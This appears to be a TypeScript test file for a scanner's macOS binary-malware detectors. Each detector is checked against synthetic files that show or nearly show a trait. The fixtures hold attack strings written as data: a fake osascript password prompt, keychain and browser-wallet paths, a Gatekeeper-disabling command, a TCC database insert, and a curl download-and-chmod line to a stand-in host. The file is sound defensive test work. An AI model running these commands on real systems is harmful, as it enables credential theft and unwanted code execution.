// Each detector of macOS programs on harmless files that show its trait, and on files that nearly do.
import { fileFamily } from '../../../src/file/detectors/family.ts'
import * as machoRegistry from '../../../src/file/detectors/macho/registry.ts'
import { type CaseTable, testOnFiles } from '../detector-table.ts'
import { buildMacho, type MachoRecipe } from './build-macho.ts'

const texts = (...strings: readonly string[]): MachoRecipe => ({ strings })
const PROMPT = 'display dialog "macOS wants to access" default answer "" with hidden answer'
const BROWSERS = [
  'Application Support/Google/Chrome/',
  'Application Support/Firefox/Profiles',
  'Application Support/Exodus',
]

const TRAITS: CaseTable<MachoRecipe> = {
  macho_asks_for_password: {
    hits: { 'a window by script': texts('osascript -e', PROMPT) },
    misses: { 'a message by script': texts('osascript -e', 'display notification "done"') },
  },
  macho_steals_credentials: {
    hits: { 'prompt, keychain and browsers': texts(PROMPT, 'login.keychain-db', ...BROWSERS) },
    misses: { 'keychain and browsers without the prompt': texts('login.keychain-db', ...BROWSERS) },
  },
  macho_reads_browser_data: {
    hits: { 'keychain and browsers': texts('Chrome Safe Storage', ...BROWSERS) },
    misses: { 'one browser': texts('Chrome Safe Storage', 'Application Support/Google/Chrome/') },
  },
  macho_turns_gatekeeper_off: {
    hits: { 'turns it off': texts('spctl --master-disable') },
    misses: { 'asks for its state': texts('spctl --status') },
  },
  macho_installs_launch_item: {
    hits: { 'writes and loads': texts('~/Library/LaunchAgents/org.example.plist', 'launchctl load %s') },
    misses: { 'names the folder': texts('~/Library/LaunchAgents') },
  },
  macho_unsigned: {
    hits: { 'no signature': {}, 'hashes only': { signature: { identifier: 'a' } } },
    misses: {
      'a certificate': { signature: { identifier: 'a', cms: true } },
      'an object file, which nobody signs': { fileType: 1 },
    },
  },
  macho_lets_libraries_in: {
    hits: {
      'two doors': {
        signature: {
          identifier: 'a',
          entitlements: ['com.apple.security.get-task-allow', 'com.apple.security.cs.disable-library-validation'],
        },
      },
    },
    misses: { 'one door': { signature: { identifier: 'a', entitlements: ['com.apple.security.get-task-allow'] } } },
  },
  macho_mines_cryptocurrency: {
    hits: { 'speaks to a pool': texts('stratum+tcp://pool.example', 'cryptonight', 'donate-level') },
    misses: { 'names an algorithm': texts('cryptonight', 'randomx') },
  },
  macho_logs_keystrokes: {
    hits: { 'hears and hides': { ...texts('/private/tmp/.k'), imports: ['_CGEventTapCreate'] } },
    misses: { 'hot keys': { ...texts('/tmp/socket'), imports: ['_CGEventTapCreate'] } },
  },
  macho_injects_into_processes: {
    hits: { 'writes and starts': { imports: ['_task_for_pid', '_mach_vm_write', '_thread_create_running'] } },
    misses: { 'reads alone': { imports: ['_task_for_pid', '_mach_vm_read'] } },
  },
  macho_loads_code_from_memory: {
    hits: { 'links bytes': { imports: ['_NSCreateObjectFileImageFromMemory', '_NSLinkModule'] } },
    misses: { 'links a file': { imports: ['_NSCreateObjectFileImageFromFile', '_NSLinkModule'] } },
  },
  macho_downloads_and_runs: {
    hits: { 'by commands': texts('curl -sL https://a.example/f -o /tmp/.f && chmod +x /tmp/.f') },
    misses: { 'an upload': texts('curl -F f=@a https://a.example'), 'a mode': texts('chmod +x %s') },
  },
  macho_changes_privacy_database: {
    hits: {
      'writes a row': texts('/Library/Application Support/com.apple.TCC/TCC.db', 'INSERT INTO access VALUES(1)'),
    },
    misses: { 'reads it': texts('/Library/Application Support/com.apple.TCC/TCC.db', 'SELECT * FROM access') },
  },
}

testOnFiles(
  fileFamily(machoRegistry, 'macho').map(({ id }) => id),
  TRAITS,
  (recipe) => ({ bytes: buildMacho(recipe), fileName: 'sample' }),
)
